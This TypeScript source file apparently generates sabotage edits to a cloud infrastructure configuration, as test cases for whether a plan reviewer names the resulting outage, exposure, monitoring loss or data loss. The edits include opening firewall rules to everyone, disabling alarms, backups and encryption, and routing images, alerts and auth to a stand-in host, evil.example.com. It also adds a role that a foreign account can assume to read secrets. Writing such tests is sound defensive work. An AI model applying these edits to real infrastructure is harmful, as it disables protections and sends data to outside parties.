/** What a careless or hostile colleague could change in prod, in kinds, found in the stack rather than listed. */
import type { Code } from '../../../commands/plan/review/plan-of-code';
import { add, blockAt, containers, drop, edit, set, statement, type Block, type Blocks, type Edit } from './edits';

export interface Kind {
  readonly kind: string;
  /** Themes, one of which the report has to name. */
  readonly themes: readonly string[];
  readonly edits: readonly Edit[];
}

const RULES = ['aws_vpc_security_group_ingress_rule', 'aws_vpc_security_group_egress_rule'];

export function hostileKinds(code: Code): readonly Kind[] {
  const resources = code['resource'] as Blocks;
  const named = (type: string): readonly (readonly [string, Block])[] => Object.entries(resources[type] ?? {});
  /** A few of many: each stands for all that are made alike. */
  const some = (type: string, most = 4): readonly string[] => {
    const all = named(type).map(([name]) => name);
    const step = Math.max(1, Math.floor(all.length / most));
    return all.filter((_, index) => index % step === 0).slice(0, most);
  };
  const first = (type: string): string => some(type, 1)[0] ?? '';
  const rules = RULES.flatMap((type) => some(type, 12).map((name) => [type, name] as const));
  const documents = named('aws_iam_role_policy')
    .map(([, { policy }]) => /document\.([\w-]+)\.json/.exec(String(policy))?.[1])
    .filter((name) => name !== undefined);
  const tasks = ['public', 'admin', 'agent'].map(
    (app) => named('aws_ecs_task_definition').find(([name]) => name.includes(`_${app}_`))?.[0] ?? '',
  );
  const numbered = named('aws_cloudwatch_metric_alarm').filter(
    ([, block]) => typeof block['threshold'] === 'number' && ((block['alarm_actions'] ?? []) as unknown[]).length > 0,
  );
  const alarms = numbered.filter((_, index) => index % 12 === 0).slice(0, 10);
  const below = (block: Block): boolean => String(block['comparison_operator']).startsWith('Less');
  const variable = (name: string, value: string) => (all: Block[]) => {
    for (const container of all)
      for (const one of (container['environment'] ?? []) as Block[]) if (one['name'] === name) one['value'] = value;
  };
  return [
    {
      kind: 'paths cut',
      themes: ['outage', 'capacity', 'exposure'],
      edits: [
        ...rules.map(([type, name]) => drop(type, name)),
        ...rules
          .filter(([type, name]) => blockAt(resources, type, name)['from_port'] !== undefined)
          .slice(0, 6)
          .map(([type, name]) => set(type, name, 'to_port', 1)),
        ...some('aws_route').map((name) => drop('aws_route', name)),
        ...some('aws_route_table_association', 2).map((name) => drop('aws_route_table_association', name)),
        ...some('aws_lb_listener').map((name) => set('aws_lb_listener', name, 'port', 8443)),
        ...some('aws_vpc_endpoint', 2).map((name) => drop('aws_vpc_endpoint', name)),
        set('aws_vpc', first('aws_vpc'), 'enable_dns_support', false),
      ],
    },
    {
      kind: 'permissions lost',
      themes: ['outage'],
      edits: [
        ...documents
          .slice(0, 10)
          .map((name) =>
            statement(name, ['aws_iam_role_policy'], 'loses its first statement', (all) => void all.shift()),
          ),
        ...some('aws_iam_role_policy').map((name) => drop('aws_iam_role_policy', name)),
        ...some('google_storage_bucket_iam_member', 2).map((name) => drop('google_storage_bucket_iam_member', name)),
      ],
    },
    {
      kind: 'permissions widened',
      themes: ['exposure'],
      edits: [
        ...documents.slice(0, 10).map((name) =>
          statement(name, ['aws_iam_role_policy'], 'may do more', (all) => {
            all.push({ actions: ['iam:PassRole'], resources: ['*'], sid: 'More' });
          }),
        ),
        ...named('google_storage_bucket_iam_member')
          .filter(([, block]) => block['member'] !== 'allUsers')
          .slice(0, 2)
          .map(([name]) => set('google_storage_bucket_iam_member', name, 'member', 'allUsers')),
      ],
    },
    {
      kind: 'opened',
      themes: ['exposure'],
      edits: [
        ...rules
          .filter(
            ([type, name]) => type.includes('ingress') && blockAt(resources, type, name)['cidr_ipv4'] !== '0.0.0.0/0',
          )
          .slice(0, 5)
          .map(([type, name]) =>
            edit(`${type}.${name} opens`, type, (all) => {
              const block = blockAt(all, type, name);
              delete block['referenced_security_group_id'];
              block['cidr_ipv4'] = '0.0.0.0/0';
            }),
          ),
        set('aws_db_instance', 'database', 'publicly_accessible', true),
        ...some('aws_s3_bucket_public_access_block', 3).map((name) =>
          set('aws_s3_bucket_public_access_block', name, 'block_public_policy', false),
        ),
        ...some('aws_ecs_service', 3).map((name) =>
          set('aws_ecs_service', name, 'network_configuration.assign_public_ip', true),
        ),
        ...some('aws_lb', 1).map((name) => set('aws_lb', name, 'drop_invalid_header_fields', false)),
      ],
    },
    {
      kind: 'alarms blinded',
      themes: ['blindness'],
      edits: [
        ...alarms.map(([name, block]) =>
          set(
            'aws_cloudwatch_metric_alarm',
            name,
            'threshold',
            below(block) ? -1 : Number(block['threshold']) * 100 + 1,
          ),
        ),
        ...alarms.map(([name]) => set('aws_cloudwatch_metric_alarm', name, 'alarm_actions', [])),
        ...alarms
          .slice(0, 5)
          .map(([name, block]) =>
            set('aws_cloudwatch_metric_alarm', name, 'evaluation_periods', Number(block['evaluation_periods']) * 20),
          ),
        ...alarms.slice(0, 5).map(([name]) => drop('aws_cloudwatch_metric_alarm', name)),
        ...some('aws_sns_topic_subscription', 2).map((name) => drop('aws_sns_topic_subscription', name)),
        ...some('grafana_rule_group', 1).map((name) => drop('grafana_rule_group', name)),
        ...some('sentry_alert', 2).map((name) => set('sentry_alert', name, 'enabled', false)),
        ...some('google_monitoring_alert_policy', 2).map((name) =>
          set('google_monitoring_alert_policy', name, 'notification_channels', []),
        ),
      ],
    },
    {
      kind: 'records lost',
      themes: ['blindness'],
      edits: [
        ...some('aws_flow_log', 2).map((name) => drop('aws_flow_log', name)),
        ...some('aws_s3_bucket_logging', 2).map((name) => drop('aws_s3_bucket_logging', name)),
        ...some('aws_lb', 2).map((name) => set('aws_lb', name, 'access_logs.enabled', false)),
        ...some('aws_cloudwatch_log_group', 3).map((name) =>
          set('aws_cloudwatch_log_group', name, 'retention_in_days', 1),
        ),
        set('aws_db_instance', 'database', 'enabled_cloudwatch_logs_exports', []),
      ],
    },
    {
      kind: 'data shortened',
      themes: ['protection', 'data loss', 'identity'],
      edits: [
        set('aws_db_instance', 'database', 'backup_retention_period', 1),
        set('aws_db_instance', 'database', 'identifier', 'other'),
        drop('aws_db_instance', 'database'),
        ...some('aws_s3_bucket', 3).map((name) => drop('aws_s3_bucket', name)),
        ...some('aws_kms_key', 2).map((name) => drop('aws_kms_key', name)),
        ...some('aws_backup_plan', 1).flatMap((name) => [
          set('aws_backup_plan', name, 'rule.enable_continuous_backup', true),
          set('aws_backup_plan', name, 'rule.completion_window', 60),
          set('aws_backup_plan', name, 'rule.lifecycle.delete_after', 1),
          drop('aws_backup_plan', name),
        ]),
        ...some('aws_s3_bucket_versioning', 2).map((name) =>
          set('aws_s3_bucket_versioning', name, 'versioning_configuration.status', 'Suspended'),
        ),
      ],
    },
    {
      kind: 'protection off',
      themes: ['protection', 'data loss'],
      edits: [
        set('aws_db_instance', 'database', 'deletion_protection', false),
        set('aws_db_instance', 'database', 'skip_final_snapshot', true),
        set('aws_db_instance', 'database', 'copy_tags_to_snapshot', false),
        ...some('aws_lb', 2).map((name) => set('aws_lb', name, 'enable_deletion_protection', false)),
        ...some('aws_secretsmanager_secret', 2).map((name) =>
          set('aws_secretsmanager_secret', name, 'recovery_window_in_days', 0),
        ),
        ...some('aws_kms_key', 2).map((name) => set('aws_kms_key', name, 'deletion_window_in_days', 7)),
      ],
    },
    {
      kind: 'encryption',
      themes: ['exposure', 'data loss', 'protection'],
      edits: [
        set('aws_db_instance', 'database', 'storage_encrypted', false),
        ...some('aws_kms_key', 2).map((name) => set('aws_kms_key', name, 'enable_key_rotation', false)),
        ...some('aws_sns_topic', 1).map((name) => set('aws_sns_topic', name, 'kms_master_key_id', undefined)),
        ...some('aws_kms_alias', 2).map((name) => set('aws_kms_alias', name, 'target_key_id', 'other')),
      ],
    },
    {
      kind: 'code swapped',
      themes: ['exposure', 'blindness', 'restart'],
      edits: [
        ...tasks.map((name) =>
          containers(name, 'runs another image', (all) => {
            all[0]!['image'] = `evil.example.com/${String(all[0]!['image'])}`;
          }),
        ),
        ...tasks.map((name) =>
          containers(name, 'starts another program', (all) => {
            all[0]!['command'] = ['sh', '-c', 'id'];
          }),
        ),
        ...some('aws_lambda_function', 1).map((name) => set('aws_lambda_function', name, 'source_code_hash', 'other')),
        ...some('aws_cloudfront_function', 1).map((name) => set('aws_cloudfront_function', name, 'code', 'other')),
        ...some('aws_sfn_state_machine', 3).map((name) =>
          edit(`aws_sfn_state_machine.${name} calls something else`, 'aws_sfn_state_machine', (all) => {
            const block = blockAt(all, 'aws_sfn_state_machine', name);
            block['definition'] = String(block['definition']).replace(/cloudwatch:putMetricData/gi, 'sqs:sendMessage');
          }),
        ),
      ],
    },
    {
      kind: 'told otherwise',
      themes: ['exposure', 'outage', 'blindness', 'capacity'],
      edits: [
        ...(
          [
            [1, 'AUTH0_DOMAIN', 'evil.example.com'],
            [1, 'CORS_ORIGINS', '*'],
            [1, 'LOG_LEVEL', 'CRITICAL'],
            [1, 'UWSGI_PROCESSES', '1'],
            [1, 'RELEASES_HISTORY_BUCKET', 'other'],
            [0, 'AUTOGRAPH_URL', 'https://evil.example.com'],
            [0, 'UWSGI_PROCESSES', '1'],
            [0, 'STATSD_HOST', '192.0.2.1'],
            [2, 'BALROG_API_ROOT', 'https://evil.example.com'],
            [2, 'AUTH0_AUDIENCE', 'other'],
          ] as const
        ).map(([task, name, value]) =>
          containers(tasks[task] ?? '', `is told ${name}=${value}`, variable(name, value)),
        ),
        containers(tasks[1] ?? '', 'is given a secret in plain', (all) => {
          const holder = all.find(({ secrets }) => ((secrets ?? []) as Block[]).length > 0)!;
          const [secret, ...rest] = holder['secrets'] as Block[];
          holder['secrets'] = rest;
          holder['environment'] = [
            ...((holder['environment'] ?? []) as Block[]),
            { name: secret!['name'], value: 'plain' },
          ];
        }),
      ],
    },
    {
      kind: 'capacity',
      themes: ['capacity'],
      edits: [
        ...some('aws_ecs_service', 3).map((name) => set('aws_ecs_service', name, 'desired_count', 0)),
        ...some('aws_appautoscaling_target', 1).map((name) =>
          set('aws_appautoscaling_target', name, 'max_capacity', 1),
        ),
        ...some('aws_appautoscaling_policy', 2).map((name) =>
          set('aws_appautoscaling_policy', name, 'target_tracking_scaling_policy_configuration.target_value', 99999),
        ),
        set('aws_db_instance', 'database', 'multi_az', false),
        set('aws_db_instance', 'database', 'max_allocated_storage', 10),
        ...tasks.map((name) => set('aws_ecs_task_definition', name, 'memory', '512')),
        ...some('aws_lb_target_group', 2).map((name) => set('aws_lb_target_group', name, 'deregistration_delay', '0')),
      ],
    },
    {
      kind: 'schedules',
      themes: ['outage', 'blindness', 'capacity'],
      edits: [
        ...some('aws_scheduler_schedule', 4).map((name) => set('aws_scheduler_schedule', name, 'state', 'DISABLED')),
        ...some('aws_scheduler_schedule', 2).map((name) =>
          set('aws_scheduler_schedule', name, 'schedule_expression_timezone', 'Asia/Tokyo'),
        ),
        ...some('aws_scheduler_schedule', 2).map((name) => drop('aws_scheduler_schedule', name)),
      ],
    },
    {
      kind: 'edge',
      themes: ['exposure', 'outage', 'capacity'],
      edits: [
        ...named('aws_lb_listener')
          .filter(([, block]) => String(block['ssl_policy']).endsWith('2016-08'))
          .slice(0, 2)
          .map(([name]) => set('aws_lb_listener', name, 'ssl_policy', 'ELBSecurityPolicy-TLS13-1-3-2021-06')),
        ...named('aws_lb_listener')
          .filter(([, block]) => String(block['ssl_policy']).includes('TLS13'))
          .slice(0, 2)
          .map(([name]) => set('aws_lb_listener', name, 'ssl_policy', 'ELBSecurityPolicy-2016-08')),
        ...some('aws_lb_listener', 2).map((name) =>
          set('aws_lb_listener', name, 'default_action.type', 'fixed-response'),
        ),
        ...some('aws_wafv2_web_acl', 1).map((name) =>
          edit(
            'the firewall loses its first rule',
            'aws_wafv2_web_acl',
            (all) => void (blockAt(all, 'aws_wafv2_web_acl', name)['rule'] as Block[]).shift(),
          ),
        ),
        drop('aws_wafv2_web_acl_association', first('aws_wafv2_web_acl_association')),
        ...some('aws_cloudfront_distribution', 1).flatMap((name) => [
          set('aws_cloudfront_distribution', name, 'enabled', false),
          set('aws_cloudfront_distribution', name, 'default_cache_behavior.viewer_protocol_policy', 'allow-all'),
        ]),
      ],
    },
    {
      kind: 'parameters of the database',
      themes: ['exposure', 'outage', 'capacity', 'data loss', 'blindness'],
      edits: [
        'innodb_flush_log_at_trx_commit=0',
        'read_only=1',
        'sql_mode=ANSI',
        'max_connections=10',
        'slow_query_log=0',
        'time_zone=Asia/Tokyo',
      ].map((pair) => {
        const [name = '', value] = pair.split('=');
        const group = first('aws_db_parameter_group');
        return edit(`parameter ${pair}`, 'aws_db_parameter_group', (all) => {
          const block = blockAt(all, 'aws_db_parameter_group', group);
          const others = (block['parameter'] as Block[]).filter((one) => one['name'] !== name);
          block['parameter'] = [...others, { name, value }];
        });
      }),
    },
    {
      kind: 'new, and takes hold of what was there',
      themes: ['exposure', 'outage', 'capacity'],
      edits: [
        add(
          'aws_sns_topic_subscription',
          'evil',
          {
            topic_arn: `\${aws_sns_topic.${first('aws_sns_topic')}.arn}`,
            protocol: 'https',
            endpoint: 'https://evil.example.com',
          },
          'aws_sns_topic',
        ),
        add(
          'aws_cloudwatch_event_target',
          'evil',
          {
            rule: `\${aws_cloudwatch_event_rule.${first('aws_cloudwatch_event_rule')}.name}`,
            arn: 'arn:aws:lambda:us-west-2:999999999999:function:evil',
          },
          'aws_cloudwatch_event_rule',
        ),
        add(
          'aws_scheduler_schedule',
          'evil',
          {
            name: 'evil',
            schedule_expression: 'rate(1 minute)',
            target: { arn: `\${aws_sfn_state_machine.${first('aws_sfn_state_machine')}.arn}` },
          },
          'aws_sfn_state_machine',
        ),
        add(
          'aws_lb_listener',
          'evil',
          { load_balancer_arn: `\${aws_lb.${first('aws_lb')}.arn}`, port: 8080, protocol: 'HTTP' },
          'aws_lb',
        ),
        add(
          'aws_lb_listener_rule',
          'evil',
          { listener_arn: `\${aws_lb_listener.${first('aws_lb_listener')}.arn}`, priority: 1 },
          'aws_lb_listener',
        ),
        add(
          'aws_lb_target_group_attachment',
          'evil',
          { target_group_arn: `\${aws_lb_target_group.${first('aws_lb_target_group')}.arn}`, target_id: '192.0.2.1' },
          'aws_lb_target_group',
        ),
        add(
          'aws_secretsmanager_secret_rotation',
          'evil',
          { secret_id: `\${aws_secretsmanager_secret.${first('aws_secretsmanager_secret')}.id}` },
          'aws_secretsmanager_secret',
        ),
        add(
          'aws_s3_bucket_replication_configuration',
          'evil',
          { bucket: `\${aws_s3_bucket.${first('aws_s3_bucket')}.id}` },
          'aws_s3_bucket',
        ),
        add(
          'aws_route_table_association',
          'evil',
          { subnet_id: `\${aws_subnet.${first('aws_subnet')}.id}`, route_table_id: 'rtb-0' },
          'aws_subnet',
        ),
        add(
          'aws_iam_role_policy',
          'evil',
          {
            role: `\${aws_iam_role.${first('aws_iam_role')}.name}`,
            policy: JSON.stringify({
              Statement: [
                { Effect: 'Allow', Action: 'secretsmanager:GetSecretValue', Resource: 'arn:aws:secretsmanager:*' },
              ],
            }),
          },
          'aws_iam_role',
        ),
        add('aws_iam_role', 'evil', {
          name: 'evil',
          assume_role_policy: JSON.stringify({
            Statement: [
              { Effect: 'Allow', Action: 'sts:AssumeRole', Principal: { AWS: 'arn:aws:iam::999999999999:root' } },
            ],
          }),
        }),
        add(
          'aws_vpc_security_group_ingress_rule',
          'evil',
          {
            security_group_id: `\${aws_security_group.${first('aws_security_group')}.id}`,
            ip_protocol: 'tcp',
            from_port: 1,
            to_port: 65000,
            cidr_ipv4: '198.51.100.0/24',
          },
          'aws_security_group',
        ),
        add(
          'aws_route',
          'evil',
          {
            route_table_id: `\${aws_route_table.${first('aws_route_table')}.id}`,
            destination_cidr_block: '198.51.100.0/24',
            gateway_id: 'igw-0',
          },
          'aws_route_table',
        ),
        add(
          'aws_chatbot_slack_channel_configuration',
          'evil',
          {
            configuration_name: 'evil',
            slack_channel_id: 'C9',
            sns_topic_arns: [`\${aws_sns_topic.${first('aws_sns_topic')}.arn}`],
          },
          'aws_sns_topic',
        ),
        add(
          'aws_lambda_permission',
          'evil',
          {
            function_name: `\${aws_lambda_function.${first('aws_lambda_function')}.function_name}`,
            principal: '*',
            action: 'lambda:InvokeFunction',
          },
          'aws_lambda_function',
        ),
      ],
    },
  ];
}
